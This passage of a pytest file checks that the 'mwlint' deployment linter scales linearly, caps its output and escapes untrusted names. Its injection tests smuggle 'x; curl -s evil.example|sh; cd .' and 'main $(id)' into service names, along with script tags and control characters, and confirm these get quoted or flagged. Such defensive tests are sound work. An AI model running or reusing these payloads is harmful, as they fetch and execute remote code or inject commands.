    page = MarkdownIt("commonmark").render(md)
    assert "<script>" not in page and "<a " not in page and "Forged</h" not in page


def _r3_no_forged_line(text):
    for sep in ("\r", "\x85", "\u2028", "\u2029", "\x1b"):
        assert sep not in text, repr(sep)
    assert not any(line.startswith(("### Forged", "[docs]", "<script>"))
                   for line in text.splitlines())


# item 1: linear work on every input

def r3_env_ref_resolution(tmp_path, monkeypatch, capsys):
    from test_plan_model import _many_environments

    from mwlint.engine import lint_text as lint_one

    def make(n):
        text = _many_environments(n)
        return lambda: lint_one(text, "k.yaml", Settings())
    assert _r3_ratio(make, 500) < 10  # 0.2.0: every reference scanned every environment


def r3_hint_budget(tmp_path, monkeypatch, capsys):
    from test_mw6xx_hostile import PATH, misspelt_env_refs

    found = []

    def make(n):
        text = misspelt_env_refs(n)
        return lambda: found.append(lint_text(text, PATH, Settings()))
    assert _r3_ratio(make, 200) < 10  # 0.2.0: difflib over every name for every reference
    assert sum(f.code == "MW606" for f in found[-1]) == 800


def r3_helmfile_template_lines(tmp_path, monkeypatch, capsys):
    from mwlint.charts.helmfile import mask_part

    def make(n):
        text = "releases:\n" + '{{ include "release" . }}\n' * n
        return lambda: mask_part(text)
    assert _r3_ratio(make, 4000) < 8  # 0.2.0: a scan back from every template line


def r3_helmfile_release_merge(tmp_path, monkeypatch, capsys):
    from mwlint.charts.helmfile import clear_cache, read_helmfile

    def make(n):
        root = tmp_path / str(n)
        root.mkdir()
        base = "".join(f"  - name: base{i}\n    chart: c\n" for i in range(n))
        own = "".join(f"  - name: own{i}\n    chart: c\n" for i in range(n))
        (root / "base.yaml").write_text("releases:\n" + base)
        (root / "helmfile.yaml").write_text("bases: [base.yaml]\n---\nreleases:\n" + own)

        def read():
            clear_cache()
            assert len(read_helmfile(str(root), "helmfile.yaml").releases) == 2 * n
        return read
    assert _r3_ratio(make, 3000, runs=2) < 10  # 0.2.0: a list test per release name: 12-16


def r3_plan_groups(tmp_path, monkeypatch, capsys):
    from test_plan_model import _many_environments

    from mwlint.engine import load_model
    from mwlint.plan.services import plan_services, records_of

    def make(n):
        model = load_model(_many_environments(n), "k.yaml", Settings())
        return lambda: records_of(plan_services([model], "eqiad"))
    assert _r3_ratio(make, 1000) < 10  # 0.2.0: the groups were quadratic in environments


def r3_many_services_check_and_plan(tmp_path, monkeypatch, capsys):
    """check and plan through the CLI: linear in the services (N against 4N), and the
    Python peak of 4N, scaled to 20,000 services, under 500 MB (0.2.0: 588 MB)."""
    from test_mw6xx_hostile import services

    paths = {}
    for n in (200, 800):
        paths[n] = tmp_path / f"s{n}.yaml"
        paths[n].write_text(services(n), encoding="utf-8")

    def make(n):
        def both():
            assert main([str(paths[n])]) == 0
            assert main(["plan", "--service", "s0", str(paths[n])]) == 0
            capsys.readouterr()
        return both
    assert _r3_ratio(make, 200, runs=2) < 10
    # memory: the peak RSS of real processes over 1,000 and 4,000 services (check, then
    # plan), extrapolated linearly to 20,000. A tracemalloc peak scaled x25 overstates it
    # (20,000 services measured 340 MB of RSS on 3.9, where 800 traced 21 MiB: 525 MB).
    probe = ("import resource, sys\nfrom mwlint.cli import main\n"
             "a = main([sys.argv[1]])\nb = main(['plan', '--service', 's0', sys.argv[1]])\n"
             "sys.stderr.write('%d %d %d' % (a, b, "
             "resource.getrusage(resource.RUSAGE_SELF).ru_maxrss))\n")
    rss = {}
    for n in (1000, 4000):
        big = tmp_path / f"s{n}.yaml"
        big.write_text(services(n), encoding="utf-8")
        p = subprocess.run([sys.executable, "-c", probe, str(big)], capture_output=True,
                           text=True, timeout=60)
        check_rc, plan_rc, peak_kb = (int(x) for x in p.stderr.split()[-3:])
        assert (check_rc, plan_rc) == (0, 0), p.stderr[-500:]
        rss[n] = peak_kb * 1024
    at_20k = rss[4000] + (rss[4000] - rss[1000]) / 3000 * 16000
    assert at_20k < MEMORY_BOUND, f"{at_20k / 2**20:.0f} MiB for 20,000 services"


# item 2: output linear in the findings, with a small constant

def r3_mw604_help(tmp_path, monkeypatch, capsys):
    from test_mw6xx_hostile import bad_stages

    p = tmp_path / "k.yaml"
    p.write_text(bad_stages(1000), encoding="utf-8")  # 10 KB of stages in each help in 0.2.0
    rc, out, err = _r3_cli(capsys, "--format", "json", "--select", "MW604", p)
    assert rc == 1, err
    found = json.loads(out)["findings"]
    assert len(found) == 1000 and all(f["help"].endswith("and 995 more") for f in found)
    assert len(out) < 1000 * 1_500, len(out)  # 0.2.0: 10 MB


def r3_mw612_help(tmp_path, monkeypatch, capsys):
    import shutil

    charts = tmp_path / "charts"
    shutil.copytree(R3_CHARTS, charts)
    helmfile = charts / "helmfile.d" / "services" / "eventstreams" / "helmfile.yaml"
    helmfile.write_text(helmfile.read_text(encoding="utf-8") + "".join(
        f"  - name: release-{i:05d}\n    <<: *default\n" for i in range(5000)),
        encoding="utf-8")
    p = tmp_path / "k.yaml"
    p.write_text(R3_SERVICES.replace("canary: {stage: CANARY}", "canery: {stage: CANARY}", 1),
                 encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "--format", "json", "--select", "MW612",
                           "--deployment-charts", charts, p)
    assert rc == 1, err
    [found] = json.loads(out)["findings"]
    assert "canery" in found["message"] and "more" in found["help"], found
    assert len(found["help"]) < 600 and len(out) < 10_000  # 0.2.0: every release, 149 KB


def r3_long_namespace_every_format(tmp_path, monkeypatch, capsys):
    """A 1 MB namespace referenced 600 times, one CLI run writing every format (0.2.0: 600
    MB of text, a MemoryError in JUnit); the YAML path of every finding is clipped too."""
    from mwlint.formats import FORMATS

    p = tmp_path / "k.yaml"
    p.write_text(_r3_service_catalog(R3_BIG, R3_REFS), encoding="utf-8")
    outputs = [a for fmt in sorted(FORMATS) for a in ("--output", f"{fmt}={tmp_path}/o.{fmt}")]
    rc, out, err = _r3_cli(capsys, *outputs, "--format", "json", p)
    assert rc == 1, err
    found = json.loads(out)["findings"]
    assert found and all(len(f["yaml_path"]) < 600 for f in found)
    for fmt in FORMATS:
        size = os.path.getsize(tmp_path / f"o.{fmt}")
        assert 0 < size < 4_000 * len(found) + 300_000, (fmt, size)


# item 3: nothing from the data forges structure

def r3_forged_namespace_in_markdown_and_review(tmp_path, monkeypatch, capsys):
    old = R3_MW_ARGS.format("mw-web")
    _r3_repo(tmp_path, monkeypatch, old,
             old + "".join(R3_MW_ARGS.format(json.dumps("x" + R3_FORGED)).splitlines(True)[1:]))
    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--format", "markdown",
                           "k.yaml")
    assert "Forged" in out, err
    _r3_no_markdown_structure(out)
    _r3_no_forged_line(out)
    review = _r3_review(tmp_path)
    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
                           "k.yaml")
    message = json.loads(review.read_text())["message"]
    assert "Forged" in message, err
    _r3_no_forged_line(message)


def r3_forged_service_and_manual_check(tmp_path, monkeypatch, capsys):
    for sep in ("\n", "\r", "\x85", "\u2028"):
        forged = R3_FORGED.replace("\n", sep)
        text = R3_SERVICES.replace("    shellbox:\n      cluster_group", "    " + json.dumps(
            "shellbox" + forged) + ":\n      cluster_group", 1)
        text = text.replace('- manual: "Do the canary\'s error graphs look normal?"',
                            "- manual: " + json.dumps("ok?" + forged), 1)
        assert text.count("Forged") == 2
        p = tmp_path / "k.yaml"
        p.write_text(text, encoding="utf-8")
        for fmt in ("text", "markdown", "html"):
            rc, out, err = _r3_cli(capsys, "plan", "--format", fmt, p)
            assert rc == 0 and out.count("Forged") >= 2, (sep, fmt, err)
            _r3_no_forged_line(out)
            if fmt == "markdown":
                _r3_no_markdown_structure(out)
            if fmt == "html":
                assert "<script>" not in out


def r3_control_characters_in_file_names_in_gerrit(tmp_path, monkeypatch, capsys):
    name = "k\x1b[2J\r\n### Forged\x85\u2028.yaml"
    (tmp_path / name).write_text(R3_MW_ARGS.format("mw-web").replace(
        "    web_flavour: webserver\n", ""), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    rc, out, err = _r3_cli(capsys, "--format", "gerrit", name)
    assert rc == 1, err
    review = json.loads(out)
    _r3_no_forged_line(review["message"])
    assert "Forged" in review["message"] and "\x1b" not in out


def r3_primary_dc_in_html_and_text(tmp_path, monkeypatch, capsys):
    dc = "eq\niad<script>"
    p = tmp_path / "k.yaml"
    p.write_text(R3_SERVICES.replace("datacenter: eqiad", "datacenter: " + json.dumps(dc)),
                 encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "plan", "--primary-dc", dc, p)
    assert rc == 0 and "primary datacenter eq\\x0aiad<script> (--primary-dc)" in out, err
    rc, out, err = _r3_cli(capsys, "plan", "--format", "html", "--primary-dc", dc, p)
    assert rc == 0 and "<script>" not in out and "eq\\x0aiad&lt;script&gt;" in out, err


def r3_commands_shell_quoted(tmp_path, monkeypatch, capsys):
    import shlex

    evil_ns, evil_rel = "x; curl -s evil.example|sh; cd .", "main $(id)"
    text = R3_SERVICES.replace("        shellbox:\n          environments:",
                               f"        {json.dumps(evil_ns)}:\n          environments:", 1)
    text = text.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
        "main: {}", f"{json.dumps(evil_rel)}: {{}}"), 1)
    p = tmp_path / "k.yaml"
    p.write_text(text, encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "plan", "--service", "shellbox", p)
    assert rc == 0, err
    cmds = [line.strip()[1:-1] for line in out.splitlines() if line.strip().startswith("(cd ")]
    assert cmds
    for c in cmds:
        words = shlex.split(c)  # what a shell would run: each name one word
        assert words[1].endswith("/" + evil_ns) and words[2:4] == ["&&", "helmfile"]
        assert ";" not in words and "|" not in words
    assert any(f"name={evil_rel}" in shlex.split(c) for c in cmds)


def r3_invalid_deploy_service_names(tmp_path, monkeypatch, capsys):
    text = R3_SERVICES.replace("        shellbox:\n          environments:",
                               "        \"x; curl -s evil.example|sh; cd .\":\n"
                               "          environments:", 1)
    text = text.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
        "main: {}", '"main $(id)": {}'), 1)
    p = tmp_path / "k.yaml"
    p.write_text(text, encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "--format", "json", p)
    assert rc == 0, err  # a warning (as MW306 for MediaWiki); 0.2.0: no finding at all
    found = json.loads(out)["findings"]
    assert [f["code"] for f in found] == ["MW614", "MW614"], found
    assert all(f["severity"] == "warning" for f in found)


# item 4: reads and writes of the review path are guarded like every other

def r3_review_message_reads_and_writes(tmp_path, monkeypatch, capsys):
    """An input of the run, a device, a 1.5 GB file: exit 2 before anything is written."""
    new = R3_SERVICES.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
        "main: {}", "main: {stage: CANARY}"))
    repo = _r3_repo(tmp_path, monkeypatch, R3_SERVICES, new)
    before = (repo / "k.yaml").read_bytes()
    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", "k.yaml",
                           "k.yaml")
    assert rc == 2 and "refusing to overwrite the linted file" in err and out == "", err
    assert (repo / "k.yaml").read_bytes() == before
    big = tmp_path / "big.json"
    with open(big, "wb") as f:
        f.truncate(1536 * 1024 * 1024)  # sparse
    targets = [(big, "over the limit")]
    if os.path.exists("/dev/zero"):
        targets.append(("/dev/zero", "not a regular file"))
    for target, says in targets:
        rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message",
                               target, "k.yaml")
        assert rc == 2 and says in err and err.count("\n") == 1, (target, err)
    assert big.stat().st_size == 1536 * 1024 * 1024


def r3_review_message_fifo(tmp_path, monkeypatch, capsys):
    repo = _r3_repo(tmp_path, monkeypatch, R3_SERVICES, R3_SERVICES.replace(
        R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace("main: {}", "main: {stage: CANARY}")))
    fifo = tmp_path / "review.fifo"
    os.mkfifo(fifo)
    p = subprocess.run([sys.executable, "-m", "mwlint", "plan", "--against", "HEAD",
                        "--review-message", str(fifo), "k.yaml"], cwd=str(repo),
                       capture_output=True, text=True, timeout=TIME_BOUND * 3)
    assert p.returncode == 2 and "not a regular file" in p.stderr, p.stderr


def r3_git_show_streamed_under_the_cap(tmp_path, monkeypatch, capsys):
    from mwlint.plan.git import read_at_revision

    old = R3_SERVICES + "# " + "x" * (2 * 1024 * 1024) + "\n"
    repo = _r3_repo(tmp_path, monkeypatch, old, R3_SERVICES)
    with bounded(memory=16 * 1024 * 1024):  # the cap and a little, not the whole old side
        data = read_at_revision(str(repo / "k.yaml"), "HEAD", 1024 * 1024)
    assert len(data) == 1024 * 1024 + 1
    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--max-file-size", "1048576",
                           "k.yaml")
    assert rc == 1 and "at HEAD: cannot plan: file is over the max-file-size limit" in err


# item 5: the hook and the writers never stall CI

def r3_gerrit_ci_many_files(tmp_path, monkeypatch, capsys):
    """The changed paths never reach a command line: 400 paths of 200 characters (80 KB)
    under a 256 KiB stack (a 64 KiB argument limit). tests/test_hooks.py runs 3,000."""
    from format_cases import BROKEN, make_repo
    from helpers import KEY_PATH
    from test_hooks import GERRIT_CI, _commit, _env, _junit
    from test_hooks import git as hook_git

    repo = make_repo(tmp_path)
    _commit(repo, "root", {"README": "x\n"})
    deep = "hieradata/" + "/".join(["d" * 60] * 2)
    for i in range(400):
        d = repo / deep / f"{i % 10:02d}"
        d.mkdir(parents=True, exist_ok=True)
        (d / f"host{i:05d}-{'x' * 60}.yaml").write_text(f"profile::x: {i}\n")
    hook_git(repo, "add", ".")
    _commit(repo, "many hosts and the broken config", {KEY_PATH: BROKEN})
    log = tmp_path / "log"
    p = subprocess.run(["bash", "-c", 'ulimit -s 256 && exec "$0"', GERRIT_CI],
                       cwd=str(repo), capture_output=True, text=True, timeout=60,
                       env=_env(repo, LOG_DIR=str(log), MWLINT_ARGS="--select MW102"))
    assert "Argument list too long" not in p.stderr
    assert p.returncode == 1, p.stdout + p.stderr
    assert _junit(log / "junit-mwlint.xml") == [(KEY_PATH, "MW102 mw_releases[5]", "failure")]


def r3_output_fifo_without_reader(tmp_path, monkeypatch, capsys):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    p = tmp_path / "k.yaml"
    p.write_text(R2_CLEAN, encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "--output", f"junit={fifo}", p)
    assert rc == 2 and err == f"mwlint: error: --output junit={fifo}: it is a FIFO with no " \
                              "reader\n", err


def r3_two_outputs_one_path(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.xml").write_text("old")
    (tmp_path / "k.yaml").write_text(R2_CLEAN, encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "--output", "junit=a.xml", "--output", "sarif=./a.xml",
                           "k.yaml")
    assert rc == 2 and "the same file as --output junit=a.xml" in err, err
    assert (tmp_path / "a.xml").read_text() == "old"


# item 6: deploy-service in the review, and nothing silently ignored

def r3_service_only_change_in_the_review(tmp_path, monkeypatch, capsys):
    _r3_repo(tmp_path, monkeypatch, R3_SERVICES, R3_SERVICES.replace(
        R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace("main: {}", "main: {stage: CANARY}")))
    review = _r3_review(tmp_path)
    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
                           "k.yaml")
    assert rc == 0 and out == "", err
    message = json.loads(review.read_text())["message"]
    assert "shellbox/shellbox/main: moves from DEFAULT to CANARY" in message, message


def r3_service_keys_in_a_second_document(tmp_path, monkeypatch, capsys):
    p = tmp_path / "k.yaml"
    p.write_text("a: 1\n---\n" + R3_SERVICES, encoding="utf-8")
    rc, out, err = _r3_cli(capsys, "--format", "json", p)
    assert rc == 1, err  # 0.2.0: ignored without a word, exit 0
    assert {f["code"] for f in json.loads(out)["findings"]} == {"MW006"}


R3_TABLE = {  # row: (issue 19 Build item, the row)
    "env-ref-resolution-is-linear": (1, r3_env_ref_resolution),
    "did-you-mean-hints-on-a-budget": (1, r3_hint_budget),
    "helmfile-template-lines-are-linear": (1, r3_helmfile_template_lines),
    "helmfile-release-merge-is-linear": (1, r3_helmfile_release_merge),
    "plan-groups-are-linear": (1, r3_plan_groups),
    "many-services-check-and-plan-linear-and-small": (1, r3_many_services_check_and_plan),
    "mw604-help-is-capped": (2, r3_mw604_help),
    "mw612-help-is-capped": (2, r3_mw612_help),
    "1mb-namespace-x600-in-every-format": (2, r3_long_namespace_every_format),
    "forged-namespace-in-markdown-and-review": (3, r3_forged_namespace_in_markdown_and_review),
    "forged-service-and-manual-check": (3, r3_forged_service_and_manual_check),
    "control-characters-in-file-names-in-gerrit": (
        3, r3_control_characters_in_file_names_in_gerrit),
    "primary-dc-in-html-and-text": (3, r3_primary_dc_in_html_and_text),
    "pasted-commands-are-shell-quoted": (3, r3_commands_shell_quoted),
    "invalid-deploy-service-names-are-mw614": (3, r3_invalid_deploy_service_names),
    "review-message-inputs-device-huge": (4, r3_review_message_reads_and_writes),
    "review-message-fifo": (4, r3_review_message_fifo),
    "git-show-streamed-under-the-cap": (4, r3_git_show_streamed_under_the_cap),
    "gerrit-ci-many-files": (5, r3_gerrit_ci_many_files),
    "output-fifo-without-reader": (5, r3_output_fifo_without_reader),
    "two-outputs-one-path": (5, r3_two_outputs_one_path),
    "service-only-change-in-the-review": (6, r3_service_only_change_in_the_review),
    "service-keys-in-a-second-document": (6, r3_service_keys_in_a_second_document),
}
R3_NEEDS = {  # rows that need a tool of the machine
    "git": {"forged-namespace-in-markdown-and-review", "review-message-inputs-device-huge",
            "review-message-fifo", "git-show-streamed-under-the-cap", "gerrit-ci-many-files",
            "service-only-change-in-the-review"},
    "bash": {"gerrit-ci-many-files"},
}


def test_round_three_table_covers_every_item():
    assert sorted({item for item, _row in R3_TABLE.values()}) == [1, 2, 3, 4, 5, 6]


@pytest.mark.parametrize("name", sorted(R3_TABLE))
def test_round_three_table(name, tmp_path, monkeypatch, capsys):
    import shutil

    for tool, rows in R3_NEEDS.items():
        if name in rows and shutil.which(tool) is None:
            pytest.skip(f"needs {tool}")
    if "fifo" in name and not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    _item, row = R3_TABLE[name]
    start = time.perf_counter()
    row(tmp_path, monkeypatch, capsys)
    # each step is bounded (5 s, 500 MB); the whole row too, with room for a busy machine
    assert time.perf_counter() - start < 2 * TIME_BOUND
